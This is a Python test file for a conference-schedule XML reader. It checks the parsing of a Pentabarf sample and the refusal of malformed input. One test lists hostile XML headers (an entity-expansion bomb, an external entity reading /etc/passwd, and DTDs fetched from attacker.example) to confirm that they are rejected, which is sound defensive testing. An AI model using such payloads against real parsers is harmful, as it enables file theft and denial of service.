import datetime

import pytest

from posts.exchange.schedule.programme import LinkEntry, ScheduleError, SpeakerEntry
from posts.exchange.schedule.read import read

PENTABARF = """<?xml version="1.0" encoding="utf-8"?>
<schedule>
  <conference>
    <title>PondConf 2024</title><acronym>pond24</acronym><start>2024-02-03</start><end>2024-02-04</end>
    <day_change>09:00:00</day_change><time_zone_name>Europe/Brussels</time_zone_name>
    <base_url>https://pond.example/</base_url>
  </conference>
  <tracks><track slug="ice">Ice</track></tracks>
  <day index="1" date="2024-02-03">
    <room name="Reed">
      <event id="12" guid="5f2d7c1e-0b6a-4c55-9d6e-000000000012">
        <start>1:30</start><duration>1:15</duration><title>Night skating</title><track>Ice</track>
        <abstract>&lt;p&gt;Bring a lamp.&lt;/p&gt;</abstract><language>english</language>
        <persons><person id="0">Ada Brook</person><person id="0">Tom Reed</person></persons>
        <attachments><attachment type="slides" href="/a/ice.pdf">Ice</attachment></attachments>
        <links><link href="https://video.pond.example/12.webm">Video recording (WebM)</link>
               <link>https://codeberg.org/pond/ice</link></links>
      </event>
    </room>
  </day>
</schedule>
"""


def test_pentabarf_is_read():
    programme = read(PENTABARF.encode())
    assert (programme.format, programme.title, programme.time_zone) == ("xml", "PondConf 2024", "Europe/Brussels")
    assert (programme.rooms, programme.tracks, str(programme.ends_on)) == (["Reed"], ["Ice"], "2024-02-04")
    (session,) = programme.sessions
    # Before the conference's day change, so in the night after its day.
    assert session.starts_at == datetime.datetime(2024, 2, 4, 0, 30, tzinfo=datetime.UTC)
    assert session.ends_at == datetime.datetime(2024, 2, 4, 1, 45, tzinfo=datetime.UTC)
    assert (str(session.day), session.language, session.abstract) == ("2024-02-03", "en", "<p>Bring a lamp.</p>")
    assert session.speakers == (SpeakerEntry("Ada Brook"), SpeakerEntry("Tom Reed"))
    assert session.links == (
        LinkEntry("https://video.pond.example/12.webm", "video", "Video recording (WebM)"),
        LinkEntry("https://codeberg.org/pond/ice", "code"),
        LinkEntry("https://pond.example/a/ice.pdf", "slides", "Ice"),
    )


def test_events_without_a_room_are_read():
    data = b"<schedule><day date='2024-02-03'><event><title>Tea</title><start>12:00</start></event></day></schedule>"
    (session,) = read(data).sessions
    assert (session.title, session.room) == ("Tea", "")


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE s [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE schedule SYSTEM "https://attacker.example/schedule.dtd">',
        '<!DOCTYPE s [<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]>',
    ],
)
def test_hostile_xml_is_refused(head):
    with pytest.raises(ScheduleError, match=r"^refused: it has a document type"):
        read(f"<?xml version='1.0'?>{head}<schedule><conference><title>&a;</title></conference></schedule>".encode())


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<schedule>\n <day>", "line 2, column 7: not valid XML (no element found)."),
        (b"<html><body/></html>", None),
        (b"<feed/>", "<feed> is no schedule that is known; <schedule> and <iCalendar> are."),
        (b"<?xml version='1.0' encoding='nonsense'?><schedule/>", None),
        (b"", "the file is empty."),
        (b"hello", "this is no schedule: neither JSON, XML nor iCalendar."),
        (b"\x1f\x8bxx", None),
    ],
)  # fmt: skip
def test_what_is_no_schedule_is_refused(data, message):
    with pytest.raises(ScheduleError) as refused:
        read(data)
    assert message is None or str(refused.value) == message
